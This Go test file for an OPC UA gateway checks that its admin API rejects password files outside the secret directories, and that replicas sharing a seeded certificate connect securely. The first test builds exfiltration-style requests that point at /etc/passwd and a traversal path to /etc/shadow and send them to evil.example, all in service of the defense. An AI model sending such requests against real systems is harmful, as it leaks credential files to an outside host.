package gateway_test

import (
	"context"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/uagate/gateway/bridge/config"
	"github.com/uagate/gateway/uastack/pki"
	"github.com/uagate/gateway/uastack/server"
	"github.com/uagate/gateway/uastack/ua"
	"github.com/uagate/gateway/uastack/uasc"
)

// TestSecretFilesOnlyFromSecretDirs: through the running gateway's API, an
// endpoint whose password is to be read from a file outside the secret
// directories (gateway.secretsDir, /run/secrets, /etc/uagate/secrets) is
// refused with a problem naming them, and nothing changes: the admin role
// cannot have any readable file sent to a server of its choosing.
func TestSecretFilesOnlyFromSecretDirs(t *testing.T) {
	srv := startCounterSim(t, "", 0)
	c := standalone(srv.URL())
	c.HTTP = config.HTTP{}
	c.Sinks = config.Sinks{File: []config.FileSink{{Name: "f", Path: t.TempDir() + "/out.jsonl"}}}
	g := startGateway(t, "gateway.yaml", marshalConfig(t, c))
	base := "http://" + g.gw.Addrs().HTTP
	for _, file := range []string{"/etc/passwd", g.path, "/run/secrets/../../etc/shadow"} {
		body := `{"name":"exfil","url":"opc.tcp://evil.example:4840","identity":{"type":"username","username":"x","passwordFile":"` + file + `"}}`
		req, _ := http.NewRequest("POST", base+"/api/v1/endpoints", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 400 || !strings.Contains(string(b), "outside the secret directories") {
			t.Errorf("passwordFile %s: %d %s", file, resp.StatusCode, b)
		}
	}
	for _, e := range g.gw.Config().Endpoints {
		if e.Name == "exfil" {
			t.Fatal("the endpoint was added")
		}
	}
}

// TestPKISeedSharedCertificate: two gateways (two state directories, as two
// replicas have) seeded from one directory — an own certificate and key,
// and the server's certificate as trusted — connect to a server that
// accepts secure channels only, without autoAccept, with that one
// application certificate: the server sees one client certificate, the
// seeded one, so a takeover needs no new trust at the PLC.
func TestPKISeedSharedCertificate(t *testing.T) {
	var mu sync.Mutex
	seen := map[string]bool{}
	srv, err := server.New(&server.Config{Address: "127.0.0.1:0", Logger: slog.New(slog.DiscardHandler),
		Policies: []uasc.EndpointSecurity{
			{PolicyURI: uasc.SecurityPolicyNone, Mode: ua.MessageSecurityModeNone}, // discovery
			{PolicyURI: uasc.SecurityPolicyBasic256Sha256, Mode: ua.MessageSecurityModeSignAndEncrypt}},
		Sim: server.SimConfig{DemoRate: 100 * time.Millisecond, Folders: -1, Variables: -1, AlarmSources: -1},
		ValidateClientCert: func(chain []byte) error {
			leaf, err := pki.LeafDER(chain)
			if err == nil {
				mu.Lock()
				seen[pki.ThumbprintHex(leaf)] = true
				mu.Unlock()
			}
			return err
		}})
	if err != nil {
		t.Fatal(err)
	}
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })

	const uri = "urn:plant1:uagate:gateway"
	seed := t.TempDir()
	der, key, err := pki.CreateCertificate(pki.CertRequest{ApplicationURI: uri, CommonName: "uagate", Hosts: []string{"localhost"}, KeyBits: 2048}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, _ := x509.MarshalPKCS8PrivateKey(key)
	for name, data := range map[string][]byte{
		"own/tls.crt":      pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
		"own/tls.key":      pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER}),
		"trusted/plc1.der": srv.Certificate(),
	} {
		p := filepath.Join(seed, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o400); err != nil {
			t.Fatal(err)
		}
	}
	c := standalone(srv.URL())
	c.Endpoints[0].SecurityPolicy, c.Endpoints[0].SecurityMode, c.Endpoints[0].AutoAccept = "Basic256Sha256", "SignAndEncrypt", false
	c.Gateway = config.Gateway{PKISeed: seed, ApplicationURI: uri}
	c.Sinks = config.Sinks{File: []config.FileSink{{Name: "f", Path: filepath.Join(t.TempDir(), "out.jsonl")}}}
	c.WriterGroups = []config.WriterGroup{{Name: "g", Endpoint: "sim", PublishingInterval: dur(100 * time.Millisecond),
		Writers: []config.DataSetWriter{writer("w", field("Counter", server.NodeCounter))}}}
	for replica := range 2 {
		g := startGateway(t, "gateway.yaml", marshalConfig(t, c))
		waitUntil(t, g, e2eWait, fmt.Sprintf("replica %d streaming over the secure channel", replica), func() bool {
			st, ok := g.gw.GroupStats("g")
			return ok && st.Notifications > 0
		})
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		if err := g.gw.Stop(ctx); err != nil {
			t.Errorf("stop: %v", err)
		}
		cancel()
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) != 1 || !seen[pki.ThumbprintHex(der)] {
		t.Errorf("the server saw client certificates %v, want only the seeded %s", seen, pki.ThumbprintHex(der))
	}
}
